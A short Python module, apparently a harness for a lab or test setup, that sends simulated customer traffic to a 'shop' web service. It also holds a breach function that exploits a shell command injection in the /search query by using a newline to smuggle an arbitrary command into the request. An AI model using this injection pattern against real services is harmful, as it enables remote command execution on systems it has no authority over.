"""Clients of shop."""

from outside import get, quote


def visit(host, rng):
    path = rng.choices(["/", "/search", "/calc", "/cart", "/price", "/dump"], [40, 12, 20, 8, 12, 1])[0]
    query = {
        "/search": rng.choice(["item", "colour", "1", "77", "none"]),
        "/calc": f"{rng.randint(1, 99)}*{rng.randint(1, 99)}",
        "/cart": f"cart{rng.randint(1, 9999)}",
        "/price": f"item {rng.randint(1, 200)}",
    }.get(path, "")
    get(host, 3000, f"{path}?q={quote(query)}")


def breach(host, command):
    """The query of /search goes to a shell."""
    return get(host, 3000, "/search?q=" + quote("x /dev/null </dev/null\n" + command + "\ntrue", safe=""))
